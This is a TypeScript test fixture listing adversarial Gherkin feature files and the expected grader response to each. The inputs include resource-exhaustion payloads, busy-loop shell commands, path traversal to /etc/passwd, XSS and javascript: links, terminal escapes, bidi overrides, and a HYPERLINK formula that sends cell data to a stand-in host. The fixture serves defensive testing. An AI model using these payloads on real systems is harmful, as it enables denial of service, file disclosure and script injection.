/**
 * Features that are too much, reach elsewhere, or carry what a page or a terminal would obey.
 */
import { type Attack, type Expected, graded, ungradable } from '../attack.fixture';
import { POD, SAYING } from './honest.fixture';

const attack = (name: string, text: string, expected: Expected): Attack => ({
  name: `feature-${name}`,
  handedIn: { files: { 'say/a.feature': text, 'say/manifests/pods.yaml': POD } },
  expected,
});
const steps = (...lines: readonly string[]) =>
  `Feature: f\n  Scenario: s\n${lines.map((line) => `    ${line}\n`).join('')}`;
const named = (name: string) => SAYING.replace('The cali interface answers', name);
const tagged = (tag: string) => SAYING.replace('  Scenario:', `  ${tag}\n  Scenario:`);
const outline = (rows: number) =>
  `Feature: f\n Scenario Outline: s\n  When pod1 pings <n>\n  Examples:\n|n|\n${'|1|\n'.repeat(rows)}`;

/** For a feature that is as good as the honest one. */
const ALL = 10;

export const FEATURES: readonly Attack[] = [
  attack(
    'long-table',
    `${steps('When pod1 pings 8.8.8.8', 'Then the ping succeeds')}${'      | a | b |\n'.repeat(100_000)}`,
    ungradable(/more than 1048576 bytes/),
  ),
  attack(
    'table',
    `${steps('When pod1 pings 8.8.8.8', 'Then on ens5 of k8s-w1 the outer header of the request is:')}${'| ttl | 1 |\n'.repeat(5000)}`,
    graded(0, /a\.feature/),
  ),
  attack(
    '10-mb-doc-string',
    `${steps('When pod1 pings 8.8.8.8:')}"""\n${'x'.repeat(10_000_000)}\n"""`,
    ungradable(/more than 1048576 bytes/),
  ),
  attack(
    'doc-string',
    `${steps('When pod1 pings 8.8.8.8')}"""\n${'x'.repeat(200)}\n${'words and words\n'.repeat(10_000)}\n"""`,
    graded(0),
  ),
  attack(
    '1-mb',
    `Feature: f\n${'  words\n'.repeat(120_000)}`,
    ungradable(/a\.feature: 960011 bytes are too much for one feature; 262144 is the limit/),
  ),
  attack(
    '10000-scenarios',
    `Feature: f\n${' Scenario: s\n'.repeat(10_000)}`,
    ungradable(/10000 scenarios; at most 100 are judged/),
  ),
  attack(
    'rows-of-an-outline',
    outline(20_000),
    ungradable(/20000 scenarios; at most 100 are judged/),
  ),
  attack('1e6-rows-of-an-outline', outline(1_000_000), ungradable(/more than 1048576 bytes/)),
  attack(
    'half-a-million-steps',
    `Feature: f\n Background:\n${'  When pod1 pings 8.8.8.8\n'.repeat(5000)}${' Scenario: s\n  When pod1 pings 8.8.8.8\n'.repeat(100)}`,
    ungradable(/judging it took longer than 5 s/),
  ),
  attack(
    '101-scenarios',
    `Feature: f\n${' Scenario: s\n  When pod1 pings 8.8.8.8\n'.repeat(101)}`,
    ungradable(/101 scenarios; at most 100 are judged/),
  ),
  attack(
    'pattern',
    steps(`When ${'a '.repeat(20_000)}pings ${'1'.repeat(20_000)}!`),
    ungradable(/a\.feature:3: a line of 60\d+ characters; at most 1000 are read/),
  ),
  attack(
    'long-argument',
    steps(`When pod1 runs "${'\\"'.repeat(50_000)}`),
    ungradable(/a\.feature:3: a line of 100\d+ characters/),
  ),
  attack(
    'command-of-his-own',
    steps('When "while :; do :; done" runs on k8s-m', 'Then the command succeeds'),
    ungradable(/there is no such sentence/),
  ),
  attack(
    'endless-command',
    steps('When on k8s-m I run "while :; do :; done"'),
    ungradable(/there is no such sentence/),
  ),
  attack(
    'unknown-language',
    '# language: xx\nFeature: f\n',
    ungradable(/a\.feature:1:1: Language not supported: xx/),
  ),
  attack(
    'unknown-sentence',
    steps('When pod1 hacks 8.8.8.8'),
    ungradable(
      /a\.feature:2: When pod1 hacks 8\.8\.8\.8: there is no such sentence; did you mean {pod}/,
    ),
  ),
  attack(
    'syntax',
    'Feature: f\n  Scenario: s\n    Given the lab "kans"\n    Whenever it rains\n',
    ungradable(/a\.feature:4:5: "Whenever it rains" makes no sense here/),
  ),
  attack('no-scenario', 'Feature: f\n', ungradable(/a\.feature:1: there is no scenario/)),
  attack('empty', '', ungradable(/a\.feature: there is no feature in this file/)),
  attack('points-of-his-own', tagged('@points(1000)'), graded(ALL)),
  attack('tags-like-options', tagged('@--exit @--require=x.js @skip @only @dry-run'), graded(ALL)),
  attack(
    'path-upwards',
    steps('Given the manifests "../../../../etc/passwd"', 'When pod1 pings 8.8.8.8'),
    graded(0, /there is no file features\/manifests\/\.\./),
  ),
  attack(
    'path-from-the-root',
    steps('Given the manifests "/etc/passwd"', 'When pod1 pings 8.8.8.8'),
    graded(0, /there is no file features\/manifests\/\/etc/),
  ),
  attack(
    'lab-upwards',
    steps('Given the lab "../../package"', 'When pod1 pings 8.8.8.8'),
    graded(0, /there is no file features\/labs\/\.\./),
  ),
  attack(
    'lab-with-nul',
    steps('Given the lab "kans\0.txt"', 'When pod1 pings 8.8.8.8'),
    graded(0, /no text in UTF-8/),
  ),
  attack(
    'the-submission',
    SAYING.replace('Given the manifests', 'Given the submission\n    And the manifests'),
    graded(ALL),
  ),
  attack('vacuous', steps('Given the submission'), graded(0)),
  attack('markup', named('<img src=x onerror=alert(1)><script>alert(2)</script>'), graded(ALL)),
  attack('address', named('[x](javascript:alert(1)) | javascript:alert(1)'), graded(ALL)),
  attack('escapes', named('\u001b[2J\u001b]0;owned\u0007'), graded(ALL)),
  attack('right-to-left', named('\u202eevoba eht si siht\u2066'), graded(ALL)),
  attack('formula', named('=HYPERLINK("http://x.example/"&A1)'), graded(ALL)),
  attack(
    'long-title',
    named('x'.repeat(100_000)),
    ungradable(/a\.feature:2: a line of 100012 characters/),
  ),
  attack(
    'twin-names',
    `${named('twin')}${SAYING.split('\n').slice(1).join('\n').replace('The cali interface answers', 'twin')}`,
    graded(ALL),
  ),
  attack(
    'includes',
    `${steps('Given the manifests "pods"')}  @import("../../hidden.feature")\n  # include: ../../hidden.feature\n`,
    ungradable(/a\.feature:6:1: the file ends too early/),
  ),
];
